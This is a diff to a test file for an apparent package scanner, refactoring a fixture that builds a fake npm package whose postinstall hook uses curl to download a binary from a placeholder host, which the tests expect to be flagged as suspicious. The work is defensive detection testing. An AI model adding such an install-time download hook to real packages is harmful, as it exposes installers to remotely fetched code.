@@ -45,9 +45,8 @@ def test_a_malicious_one_fails_and_is_listed_with_its_cause(tmp_path, honest):
 
 def test_too_many_held_ones_fail_and_few_do_not(tmp_path, honest):
     assert evaluate("--only-sets", "--set", f"npm more={honest}").returncode == 0
-    (honest / "held.tgz").write_bytes(
-        npm_package("acme-held", "1.0.0", scripts={"postinstall": "curl -sSf https://cdn.example.invalid/a.bin -o a.bin"}).tarball
-    )
+    scripts = {"postinstall": "curl -sSf https://cdn.example.invalid/a.bin -o a.bin"}
+    (honest / "held.tgz").write_bytes(npm_package("acme-held", "1.0.0", scripts=scripts).tarball)
     held = evaluate("--only-sets", "--set", f"npm more={honest}")
     assert held.returncode != 0 and "suspicious held.tgz" in held.stdout, held.stdout + held.stderr
     # One of twenty-one is within the bound of Python packages, which is wider.
